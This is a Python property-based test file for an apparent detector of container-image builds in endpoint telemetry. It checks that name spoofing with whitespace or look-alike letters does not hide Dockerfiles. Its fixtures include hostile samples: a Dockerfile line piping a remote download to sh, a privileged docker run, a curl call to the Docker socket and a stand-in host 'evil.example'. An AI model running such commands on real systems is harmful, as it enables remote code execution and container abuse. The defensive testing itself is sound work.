"""A gate opens for exactly what ``explain`` looks at, however a name is spelled."""

from __future__ import annotations

import gc
import tracemalloc
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from t1612core import HARDENED, PROFILES, SCHEMAS, SENTINEL, Detector, EventError, Kind, Profile
from t1612core.engine.gate import BLANKS, MOST, holds_any
from t1612core.engine.labelling import Labels
from t1612core.facts.file import is_dockerfile
from t1612core.knowledge.containerfiles import NAMES, PREFIXES, SUFFIXES, VARIANTS

DETECTORS = {name: Detector(profile) for name, profile in PROFILES.items()}
TABLES = {
    "process": "DeviceProcessEvents",
    "file": "DeviceFileEvents",
    "network": "DeviceNetworkEvents",
}
_AROUND = st.sampled_from(["", "", *BLANKS]) | st.text(
    st.sampled_from([*BLANKS, *"'\"/\\-.x2\u212a"]), max_size=3
)
_DOCKERFILES = st.sampled_from(
    [
        *(
            "Dockerfile2",
            *NAMES,
            "Dockerfile",
            "DOCKERFILE",
            "doc\u212aerfile",
            "Dockerfile.go",
            "Dockerfile.exe",
        ),
        *(f"{mark}x" for mark in (*PREFIXES, *VARIANTS)),
        *(f"x{end}" for end in SUFFIXES),
    ]
)
_PROGRAMS = st.sampled_from(
    sorted({name for branch in HARDENED.branches for name in branch.programs})
)
_LONG = st.sampled_from([" " * 300, "\t" * 5_000])


def names(watched: st.SearchStrategy[str]) -> st.SearchStrategy[str]:
    return st.one_of(
        st.builds("{}{}{}".format, _AROUND, watched, _AROUND),
        st.builds("{}{}{}".format, watched, _LONG, _AROUND),
        st.text(max_size=8),
    )


_FIELDS = {
    "FileName": names(_DOCKERFILES | _PROGRAMS),
    "InitiatingProcessFileName": names(_PROGRAMS),
    "FolderPath": st.sampled_from(["/tmp/x", "/dev/shm/.x/", "/srv"]),
    "ProcessCommandLine": st.sampled_from(
        [
            *("docker build /tmp/x", "docker build --no-cache -t a /dev/shm/.x", "docker ps", ""),
            *("sh -c 'docker build /tmp/x'", "docker run --privileged a"),
            "curl -X POST --unix-socket /run/docker.sock http://d/build",
        ]
    ),
    "FileContent": st.sampled_from(["", "FROM a\nRUN curl http://192.0.2.1/x | sh\n"]),
    "ActionType": st.sampled_from(["FileCreated", "FileDeleted", "ConnectionSuccess"]),
    "RemoteIP": st.sampled_from(["198.51.100.7", "10.0.0.1", ""]),
    "RemoteUrl": st.sampled_from(["evil.example", "docker.io", ""]),
    "RemotePort": st.sampled_from([443, 80, 9]),
}
_ODD: st.SearchStrategy[Any] = st.sampled_from(
    [None, 7, 1.5, True, b"x", ["docker", "build"], {}, float("nan")]
)
_EVENT = st.builds(
    lambda event, odd: {**event, **odd},
    st.fixed_dictionaries(_FIELDS),
    st.just({}) | st.dictionaries(st.sampled_from(list(_FIELDS)), _ODD, max_size=1),
)


@pytest.mark.parametrize("name", DETECTORS)
@pytest.mark.parametrize("kind", TABLES)
@given(event=_EVENT)
@settings(deadline=None)
def test_a_finding_is_what_a_branch_explains_to_be_one(
    name: str, kind: Kind, event: dict[str, Any]
) -> None:
    detector, event = DETECTORS[name], {**event, "Type": TABLES[kind]}
    try:
        finding = detector.score(event)
        explained = detector.explain(event)
    except EventError:
        with pytest.raises(EventError):
            detector.explain(event)
        return
    reached = [each for each in explained.branches if each.score >= each.branch.threshold]

    assert (finding is not None) == bool(reached)
    if finding is not None:
        assert max(each.score for each in reached) == finding.score


@pytest.mark.parametrize("name", DETECTORS)
@pytest.mark.parametrize("kind", TABLES)
@given(event=_EVENT)
@settings(deadline=None)
def test_observing_raises_what_scoring_does_and_no_more(
    name: str, kind: Kind, event: dict[str, Any]
) -> None:
    detector, event = DETECTORS[name], {**event, "Type": TABLES[kind]}
    try:
        steps = detector.observe(event)
        finding = detector.score(event)
    except EventError:
        return

    assert finding is None or not steps or finding.score == steps[0].score


@given(names(_DOCKERFILES))
def test_every_dockerfile_passes_the_gate(name: str) -> None:
    event = {"FileName": name, "FolderPath": "/tmp/x"}
    explained = DETECTORS["hardened"].explain({**event, "Type": TABLES["file"]})

    assert any(each.is_open for each in explained.branches) >= is_dockerfile(name)


@pytest.mark.parametrize("blank", BLANKS)
@pytest.mark.parametrize(
    "bare", ["Dockerfile", "Containerfile.web", "x.dockerfile", "dockerfile-x"]
)
def test_blanks_around_a_name_hide_no_file(blank: str, bare: str) -> None:
    for name in (bare + blank, blank + bare, blank * 2 + bare + blank * 2):
        event = {"FileName": name, "FolderPath": "/dev/shm/.x/", "Type": TABLES["file"]}
        finding = DETECTORS["hardened"].score(event)

        assert finding is not None
        assert finding.score == 6
        assert DETECTORS["hardened"].observe(event)[0].is_alert

        # The rule's name is exact, and its ending an ending.
        is_the_rules = name.endswith(".dockerfile")
        assert (DETECTORS["sentinel"].score(event) is not None) == is_the_rules
        assert DETECTORS["sentinel"].observe(event)[0].is_alert == is_the_rules


def test_the_blanks_are_those_that_python_strips() -> None:
    assert "".join(filter(str.isspace, map(chr, range(0x110000)))) == BLANKS


NEEDLES = sorted(
    {
        (*mention.needles, *mention.marks)
        for profile in PROFILES.values()
        for branch in profile.branches
        for mention in branch.mentions
    }
)


@given(st.sampled_from(NEEDLES), st.data())
def test_one_expression_looks_for_all_needles(
    needles: tuple[str, ...], data: st.DataObject
) -> None:
    """Texts of pieces of needles and of letters by which needles are parted, quotes among them."""
    pieces = [needle[:n] for needle in needles for n in range(1, len(needle) + 1)]
    words = st.sampled_from([*pieces, "k", "m", "'", '"', "\\", "{", "\n", "–"])
    text = "".join(data.draw(st.lists(words, max_size=6)))

    assert any(needle in text for needle in needles) == holds_any(needles)(text)


@pytest.mark.parametrize("needles", NEEDLES)
def test_each_needle_is_found_by_itself(needles: tuple[str, ...]) -> None:
    holds = holds_any(needles)

    assert all(holds(f"a{needle}b") for needle in needles)


def test_what_is_looked_for_is_text_whatever_it_spells() -> None:
    needles = ("'\"", "\\", "' in text or True or '", "\n")

    assert all(holds_any(needles)(f"a{needle}b") for needle in needles)
    assert not holds_any(needles)("a")


def test_needles_that_all_hold_a_rare_letter_are_found() -> None:
    assert holds_any(("k1", "k2"))("ak2")
    assert not holds_any(("k1", "k2"))("k")


@pytest.mark.parametrize("profile", [HARDENED, SENTINEL], ids=lambda profile: profile.name)
def test_names_that_never_come_again_take_no_room(profile: Profile) -> None:
    """Whatever is remembered of one is forgotten with it."""
    detector = Detector(profile)

    def held_after(first: int) -> int:
        for number in range(first, first + 2 * MOST):
            for name in (f"x{number}", f"python3.{number}", f"docker-{number}"):
                detector.score_process({"FileName": name, "ProcessCommandLine": "x"})
        gc.collect()
        return tracemalloc.get_traced_memory()[0]

    tracemalloc.start()
    try:
        held = held_after(0)
        for number in range(1, 3):
            later = held_after(2 * MOST * number)
    finally:
        tracemalloc.stop()

    assert later < 1.2 * held


def test_four_of_the_places_that_an_event_lacks_are_named() -> None:
    with pytest.raises(EventError, match=r"\((?:[^,]+, ){4}\.\.\.\)"):
        Detector(schema=SCHEMAS["ecs"]).score_process({"x": 1})


def test_what_is_long_is_no_label() -> None:
    """It is looked for by the event's own id; a label stands in every line of a table."""
    asked = {"kind": "Event", "requestURI": "/x", "requestObject": {"spec": {}}}
    written = {"FileName": "Dockerfile", "FolderPath": "/srv", "FileContent": "FROM a"}

    told = Labels().of(asked, "daemon", SCHEMAS["kubernetes_audit"])
    assert (told["request"], "body" in told) == ("/x", False)
    assert "content" not in Labels().of(written, "file", SCHEMAS["mde"])


@pytest.mark.parametrize("schema", ["mde", "asim", "crowdstrike", "qradar", "splunk"])
def test_a_file_of_another_name_is_none_of_ours(schema: str) -> None:
    """Wherever a schema has the name, in one place or in a path."""
    detector = Detector(schema=SCHEMAS[schema])
    for place in detector.schema.fields["file"]["name"].places:
        assert detector.score_file({place: "zx"}) is None
